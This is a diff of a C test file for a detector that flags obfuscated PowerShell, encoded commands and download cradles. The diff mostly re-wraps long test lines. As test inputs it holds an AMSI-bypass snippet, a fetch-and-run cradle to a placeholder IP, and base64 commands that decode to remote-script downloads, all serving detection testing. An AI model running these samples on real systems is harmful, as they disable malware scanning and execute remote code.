@@ -50,14 +50,16 @@ int main(void)
     block(&x, repeat("$a = [Ref].Assembly.GetType('System.Man'+'agement.Auto'+'mation.Am'+'siUtils'); "
                      "$a.\"GetF`iel`d\"('amsiIn'+'itFailed','NonPublic,Static').SetValue($null,$true); ",
                      1200));
-    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1027.010,T1059.001") && strstr(got[0]->title, "obfuscated"));
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1027.010,T1059.001") &&
+          strstr(got[0]->title, "obfuscated"));
     drop_all();
     /* [char] casts and punctuation. */
     block(&x, repeat("&([char]73+[char]69+[char]88)(([char]39)+'x'); ", 600));
     CHECK_INT(n_got, 1);
     drop_all();
     /* Clean code, with PowerShell's own escapes ("`n", "`t"), and minified but plain code. */
-    block(&x, repeat("Get-ChildItem -Path $env:TEMP -Filter *.log | ForEach-Object { Write-Host \"found`t$($_.Name)`n\" } ",
+    block(&x, repeat("Get-ChildItem -Path $env:TEMP -Filter *.log | ForEach-Object { Write-Host "
+                     "\"found`t$($_.Name)`n\" } ",
                      2000));
     block(&x, repeat("function f($a){if($a -gt 1){return $a*f($a-1)};return 1};f(5);", 600));
     /* Short: not measured. */
@@ -71,13 +73,15 @@ int main(void)
     start(&x, "C:\\Windows\\System32\\cmd.exe", "cmd /c powershell -c \"iwr http://192.0.2.8/x.ps1 | iex\"");
     CHECK(n_got == 1 && strstr(got[0]->title, "cradle"));
     drop_all();
-    block(&x, "(New-Object Net.WebClient).DownloadFile('https://example.org/tool.zip', \"$env:TEMP\\tool.zip\")");
+    block(&x,
+          "(New-Object Net.WebClient).DownloadFile('https://example.org/tool.zip', \"$env:TEMP\\tool.zip\")");
     CHECK_INT(n_got, 0);
 
     /* Encoded commands: -enc and a prefix of -EncodedCommand, with a long token. */
     start(&x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
           "powershell.exe -noP -sta -w 1 -enc SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMA");
-    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1027.010,T1059.001") && strstr(got[0]->title, "wscript.exe"));
+    CHECK(n_got == 1 && !strcmp(got[0]->techniques, "T1027.010,T1059.001") &&
+          strstr(got[0]->title, "wscript.exe"));
     drop_all();
     start(&x, "C:\\Program Files\\PowerShell\\7\\PWSH.EXE",
           "pwsh -NoProfile -EncodedC JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAA");
@@ -86,7 +90,8 @@ int main(void)
     /* A short token, -ExecutionPolicy (an -e... that is not -EncodedCommand), another program. */
     start(&x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell -e SQBmACgA");
     start(&x, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-          "powershell -ExecutionPolicy Bypass -File C:\\scripts\\inventory_collection_for_the_asset_database.ps1");
+          "powershell -ExecutionPolicy Bypass -File "
+          "C:\\scripts\\inventory_collection_for_the_asset_database.ps1");
     start(&x, "C:\\Windows\\System32\\certutil.exe",
           "certutil -e SQBmACgAJABQAFMAVgBFAHIAUwBpAE8AbgBUAGEAQgBsAEUALgBQAFMA out.txt");
     CHECK_INT(n_got, 0);
@@ -96,26 +101,50 @@ int main(void)
        organisation's own server (a one-label name, a name in the running host's domain)
        weighs 45 and names nobody outside. */
     static const char ps[] = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
-    start(&x, ps, "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUALQBjAGgAZQBjAGsALgBlAHgAYQBtAHAAbABlAC4AbgBlAHQALwBhAC4AcABzADEAJwApAA==");
+    start(&x, ps,
+          "powershell.exe -NoProfile -EncodedCommand "
+          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
+          "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUALQBjAGgAZQBjAGsALgBlAHgAYQBtAHAAbABl"
+          "AC4AbgBlAHQALwBhAC4AcABzADEAJwApAA==");
     CHECK_INT(n_got, 2);
     CHECK(n_got == 2 && strstr(got[0]->title, "DownloadString('http://update-check.example.net/a.ps1')"));
     CHECK(n_got == 2 && strstr(got[1]->title, "cradle") && got[1]->severity == 70 && got[1]->remote_name &&
           !strcmp(got[1]->remote_name, "update-check.example.net") && got[1]->direction == TS_DIR_OUTBOUND);
     drop_all();
-    start(&x, ps, "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBuAHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
-    CHECK(n_got == 2 && got[1]->severity == 45 && !got[1]->remote_name && strstr(got[1]->title, "from internal deploy-01"));
+    start(&x, ps,
+          "powershell.exe -NoProfile -EncodedCommand "
+          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
+          "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBu"
+          "AHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
+    CHECK(n_got == 2 && got[1]->severity == 45 && !got[1]->remote_name &&
+          strstr(got[1]->title, "from internal deploy-01"));
     drop_all();
     ts_event ev;
     win(&ev, "windows.sysmon", 1, "ws-7.corp.example.com", T0);
     ev.process = ts_str_c(ps);
-    ev.command_line = ts_str_c("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALgBjAG8AcgBwAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AaQAuAHAAcwAxACcAKQA=");
+    ev.command_line = ts_str_c("powershell -enc "
+                               "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0A"
+                               "CkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbA"
+                               "BvAHkALgBjAG8AcgBwAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AaQAuAHAAcwAxACcAKQA=");
     feed(&x, &ev);
     CHECK(n_got == 2 && got[1]->severity == 45 && !got[1]->remote_name);
     drop_all();
     /* Keyed by the script it runs: the same script again is the same alert, another is not. */
-    start(&x, ps, "powershell.exe -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcwAgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABhAHMAcwBUAGgAcgB1AA==");
-    start(&x, ps, "powershell.exe -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcwAgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABhAHMAcwBUAGgAcgB1AA==");
-    start(&x, ps, "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBuAHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
+    start(&x, ps,
+          "powershell.exe -EncodedCommand "
+          "RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcw"
+          "AgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABh"
+          "AHMAcwBUAGgAcgB1AA==");
+    start(&x, ps,
+          "powershell.exe -EncodedCommand "
+          "RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAfAAgAFcAaABlAHIAZQAtAE8AYgBqAGUAYwB0ACAAewAkAF8ALgBTAHQAYQB0AHUAcw"
+          "AgAC0AZQBxACAAJwBTAHQAbwBwAHAAZQBkACcAfQAgAHwAIABSAGUAcwB0AGEAcgB0AC0AUwBlAHIAdgBpAGMAZQAgAC0AUABh"
+          "AHMAcwBUAGgAcgB1AA==");
+    start(&x, ps,
+          "powershell.exe -EncodedCommand "
+          "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbw"
+          "BhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZABlAHAAbABvAHkALQAwADEALwBzAGMAcgBpAHAAdABzAC8AaQBu"
+          "AHYAZQBuAHQAbwByAHkALgBwAHMAMQAnACkA");
     CHECK(n_got == 4 && !strcmp(got[0]->key, got[1]->key) && strcmp(got[0]->key, got[2]->key) != 0);
     drop_all();
 
